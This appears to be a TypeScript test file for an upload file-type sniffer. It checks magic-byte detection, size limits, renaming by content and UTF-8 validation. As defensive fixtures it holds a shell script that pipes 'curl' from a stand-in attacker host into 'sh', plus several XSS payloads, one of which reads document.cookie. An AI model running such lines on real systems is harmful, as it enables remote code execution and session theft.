import { Readable, Writable } from 'node:stream'
import { pipeline } from 'node:stream/promises'
import { describe, expect, it } from 'vitest'
import { EXE_HEAD, samples } from '../../../test/helpers/samples'
import { sanitizeFilename } from './filename'
import { ImageError, processImage } from './images'
import { FILE_TYPES, SNIFF_BYTES, sniffFileType, textValidator } from './sniff'

const PNG_MAGIC = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

describe('sniffFileType', () => {
  it.each([
    ['jpeg', 'jpg', 'image/jpeg', 'image'],
    ['png', 'png', 'image/png', 'image'],
    ['webp', 'webp', 'image/webp', 'image'],
    ['animatedWebp', 'webp', 'image/webp', 'image'],
    ['gif', 'gif', 'image/gif', 'image'],
    ['pdf', 'pdf', 'application/pdf', 'document'],
    ['docx', 'docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'document'],
    ['xlsx', 'xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'document'],
    ['zip', 'zip', 'application/zip', 'archive'],
    ['txt', 'txt', 'text/plain', 'text'],
  ] as const)('knows %s by its bytes', async (sample, ext, mime, kind) => {
    const bytes = await samples[sample]()
    expect(sniffFileType(bytes.subarray(0, SNIFF_BYTES))).toMatchObject({ ext, mime, kind })
  })

  it('gives each kind its size limit', () => {
    const MiB = 1024 * 1024
    expect([FILE_TYPES.png.maxBytes, FILE_TYPES.txt.maxBytes, FILE_TYPES.pdf.maxBytes, FILE_TYPES.zip.maxBytes]).toEqual([
      10 * MiB,
      5 * MiB,
      25 * MiB,
      50 * MiB,
    ])
  })

  it('refuses what is not on the list', () => {
    const refused = [
      EXE_HEAD,
      Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'),
      Buffer.from('RIFF\x24\x00\x00\x00WAVEfmt ', 'latin1'),
      Buffer.from('hello\x00world'),
      Buffer.from('bell \x07 rings'),
      Buffer.from([0x63, 0x61, 0x66, 0xe9]), // "café" in Latin-1: not UTF-8
      Buffer.from([0xc3, 0x28]),
      Buffer.alloc(0),
    ]
    for (const head of refused) expect(sniffFileType(head), head.toString('latin1')).toBeNull()
  })

  it('calls a file named .png that is a shell script text, and its name follows the bytes', () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n')
    const type = sniffFileType(script)
    expect(type?.ext).toBe('txt')
    expect(sanitizeFilename('cute-cat.png', type!.ext)).toBe('cute-cat.txt')
  })

  it('takes a PNG signature at its word, and re-encoding then refuses a PNG that is really a script', async () => {
    const fake = Buffer.concat([PNG_MAGIC, Buffer.from('<script>alert(document.cookie)</script>')])
    const type = sniffFileType(fake)
    expect(type?.ext).toBe('png')
    await expect(processImage(fake, type!)).rejects.toBeInstanceOf(ImageError)
    await expect(processImage(fake, type!)).rejects.toMatchObject({ reason: 'unreadable' })
  })

  it('tells DOCX from XLSX from a plain ZIP by entry names, even when only the head arrived', async () => {
    const docx = await samples.docx()
    expect(sniffFileType(docx.subarray(0, 260))?.ext).toBe('docx')
    const { zipOf } = await import('../../../test/helpers/samples')
    expect(sniffFileType(zipOf({ 'word/a.xml': 'a', 'xl/b.xml': 'b' }))?.ext).toBe('zip')
    expect(sniffFileType(zipOf({ 'wordy/a.xml': 'a' }))?.ext).toBe('zip')
    // A header cut inside its name proves nothing.
    expect(sniffFileType(docx.subarray(0, 40))?.ext).toBe('zip')
  })

  it('accepts a 64 KiB head that ends inside a Persian letter, but not a whole file that does', () => {
    const text = Buffer.from('س'.repeat(SNIFF_BYTES), 'utf8') // 2 bytes each
    const head = Buffer.concat([Buffer.from('x'), text]).subarray(0, SNIFF_BYTES)
    expect(head.at(-1)).toBe(Buffer.from('س')[0]) // cut after the first byte of a letter
    expect(sniffFileType(head)?.ext).toBe('txt')
    expect(sniffFileType(head.subarray(0, 101))?.ext).toBe('txt')
    expect(sniffFileType(head.subarray(0, 102))).toBeNull()
  })

  it('HTML and SVG are only text (served as text/plain, as attachments)', () => {
    expect(sniffFileType(Buffer.from('<html><script>alert(1)</script></html>'))?.mime).toBe('text/plain')
    expect(sniffFileType(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))?.mime).toBe('text/plain')
  })
})

describe('textValidator', () => {
  const run = (chunks: Buffer[]) =>
    pipeline(
      Readable.from(chunks),
      textValidator(() => new Error('not text')),
      new Writable({ write: (_chunk, _encoding, done) => done() }),
    )
  it('passes text split anywhere, even inside a character', async () => {
    const bytes = Buffer.from('سلام\tworld\r\n', 'utf8')
    await expect(run([bytes.subarray(0, 1), bytes.subarray(1, 3), bytes.subarray(3)])).resolves.toBeUndefined()
  })
  it('fails on binary after the head, and on a file that ends inside a character', async () => {
    await expect(run([Buffer.from('a'.repeat(SNIFF_BYTES)), Buffer.from([0x00, 0x01])])).rejects.toThrow('not text')
    await expect(run([Buffer.from('ok'), Buffer.from([0xd8])])).rejects.toThrow('not text')
  })
})
